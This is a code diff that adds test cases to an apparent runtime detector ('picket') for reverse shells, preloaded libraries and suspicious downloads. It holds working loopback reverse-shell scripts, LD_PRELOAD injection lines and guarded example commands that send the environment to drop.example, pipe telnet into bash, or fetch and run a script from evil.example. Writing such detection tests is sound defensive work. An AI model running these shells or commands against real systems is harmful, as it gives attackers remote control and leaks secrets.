@@ -105,6 +105,133 @@ PYTHON
         reports: &["picket_shell_fed_by_client"],
     },
     Case {
+        name: "a program passes on what a connection says to a shell's Unix sockets, as Node.js does",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess, time
+attacker = socket.create_server(("127.0.0.1", 0))
+victim = os.fork()
+if victim == 0:
+    address = attacker.getsockname()
+    attacker.close()
+    connection = socket.create_connection(address)
+    # A connection is told once it is established, which takes its moment; so does typing.
+    time.sleep(1)
+    ours, theirs = socket.socketpair()
+    shell = subprocess.Popen(["sh"], stdin=theirs, stdout=theirs)
+    ours.sendall(connection.recv(100))
+    connection.sendall(ours.recv(100))
+    shell.wait()
+    os._exit(0)
+connection, _ = attacker.accept()
+connection.sendall(b"echo $((6 * 7)); exit\n")
+assert connection.recv(100) == b"42\n"
+os.waitpid(victim, 0)
+PYTHON
+"#,
+        reports: &["picket_shell_fed_by_client"],
+    },
+    Case {
+        name: "a program starts a shell on pipes first, and then connects to whom it is for",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+here, there = os.pipe()
+attacker = os.fork()
+if attacker == 0:
+    server = socket.create_server(("127.0.0.1", 0))
+    os.write(there, b"%d" % server.getsockname()[1])
+    connection, _ = server.accept()
+    connection.sendall(b"echo $((6 * 7))\n")
+    assert connection.recv(100) == b"42\n"
+    os._exit(0)
+shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+connection = socket.create_connection(("127.0.0.1", int(os.read(here, 10))))
+open("connected", "w").close()  # A connection is told before what its thread does next.
+answer, _ = shell.communicate(connection.recv(100))
+connection.sendall(answer)
+_, status = os.waitpid(attacker, 0)
+assert status == 0, status
+PYTHON
+"#,
+        reports: &["picket_shell_feeder_connects"],
+    },
+    Case {
+        name: "what passes a shell on connects by several paths at once (MPTCP), which is no TCP to the kernel",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+attacker = socket.create_server(("127.0.0.1", 0))
+victim = os.fork()
+if victim == 0:
+    address = attacker.getsockname()
+    attacker.close()
+    try:
+        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+    except OSError:
+        connection = socket.socket()  # A kernel without it.
+    connection.connect(address)
+    open("connected", "w").close()  # A connection is told before what its thread does next.
+    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    answer, _ = shell.communicate(connection.recv(100))
+    connection.sendall(answer)
+    os._exit(0)
+connection, _ = attacker.accept()
+connection.sendall(b"echo $((6 * 7))\n")
+assert connection.recv(100) == b"42\n"
+os.waitpid(victim, 0)
+PYTHON
+"#,
+        reports: &["picket_shell_fed_by_client"],
+    },
+    Case {
+        name: "a script file ties a shell to netcat by a FIFO",
+        prepare: r#"
+loopback
+cp /usr/bin/python3 nc
+cat > relay <<'PYTHON'
+import os, socket, sys
+# What the shell says first comes once it runs.
+assert os.read(0, 100) == b"here\n"
+attacker = socket.create_server(("127.0.0.1", 0))
+connection = socket.create_connection(attacker.getsockname())
+other, _ = attacker.accept()
+open("connected", "w").close()  # A connection is told before what its thread does next.
+other.sendall(b"echo $((6 * 7)); exit\n")
+os.write(1, connection.recv(100))
+connection.sendall(os.read(0, 100))
+assert other.recv(100) == b"42\n"
+PYTHON
+"#,
+        script: "mkfifo pipe; (echo 'echo here'; cat pipe) | sh 2>&1 | ./nc relay > pipe",
+        reports: &["picket_shell_feeder_connects"],
+    },
+    Case {
+        name: "a program gives a shell a script through pipes, and connects when that is done",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import socket, subprocess
+subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
+socket.socket().connect_ex(("127.0.0.1", 9))
+PYTHON
+"#,
+        reports: &[],
+    },
+    Case {
+        name: "a script that is piped into a shell, whose output is kept, connects",
+        prepare: r#"
+loopback
+cp /usr/bin/python3 curl
+echo 'import socket; socket.socket().connect_ex(("127.0.0.1", 9))' > ask
+"#,
+        script: "echo ./curl ask | sh 2>&1 | cat > log",
+        reports: &[],
+    },
+    Case {
         name: "pipes carry what is typed somewhere else into an interactive shell, and back",
         prepare: "",
         script: "mkfifo in; (echo exit > in) & setsid -w sh -i < in 2>&1 | cat",
@@ -327,6 +454,16 @@ cat /dev/shm/cache
         reports: &["picket_preloaded_library"],
     },
     Case {
+        name: "the same behind a library of the system, through a descriptor, and from the working directory",
+        prepare: "",
+        script: "LD_PRELOAD=libm.so.6:/tmp/hide.so ls; LD_PRELOAD=/proc/self/fd/9 ls; LD_PRELOAD=./hide.so ls",
+        reports: &[
+            "picket_preloaded_library",
+            "picket_preloaded_library",
+            "picket_preloaded_library",
+        ],
+    },
+    Case {
         name: "a library of the system is preloaded",
         prepare: "",
         script: "LD_PRELOAD=libm.so.6 true; TMPDIR=/tmp/LD_PRELOAD=/tmp/x true",
@@ -346,6 +483,45 @@ python3 -c 'import pty; pty.spawn(["/usr/bin/true"])'
 sh -c 'false && curl -fsSL http://127.0.0.1:9/install.sh | bash' || true
 "#,
         reports: &["picket_suspicious_command", "picket_suspicious_command"],
+    },
+    Case {
+        name: "shells are told to send the environment away, to take commands from netcat, and awk to connect",
+        prepare: "cp \"$(readlink -f \"$(command -v awk)\")\" gawk",
+        script: r#"
+sh -c 'false && env | base64 -w0 | curl -d @- http://drop.example/' || true
+sh -c 'false && (mknod pipe p; telnet host.example 9 0<pipe | /bin/bash 1>pipe)' || true
+./gawk 'BEGIN { if (0) "/inet/tcp/0/host.example/9" | getline }'
+"#,
+        reports: &[
+            "picket_suspicious_command",
+            "picket_suspicious_command",
+            "picket_suspicious_command",
+        ],
+    },
+    Case {
+        name: "a program that listens downloads something with a tool, without a shell",
+        prepare: "loopback; cp /usr/bin/true curl",
+        script: r#"
+python3 - <<'PYTHON'
+import socket, subprocess
+subprocess.run(["./curl", "http://127.0.0.1:9/before"], check=True)
+server = socket.create_server(("127.0.0.1", 0))
+subprocess.run(["./curl", "-o", "/tmp/x", "http://127.0.0.1:9/x"], check=True)
+PYTHON
+"#,
+        reports: &["picket_download_from_network_service"],
+    },
+    Case {
+        name: "a program that listens runs what a name gives",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket
+server = socket.create_server(("127.0.0.1", 0))
+os.system("false && wget -qO- http://evil.example/x.sh | sh")
+PYTHON
+"#,
+        reports: &["picket_suspicious_command"],
     },
     Case {
         name: "a shell looks at what an address gives, and python at a terminal",
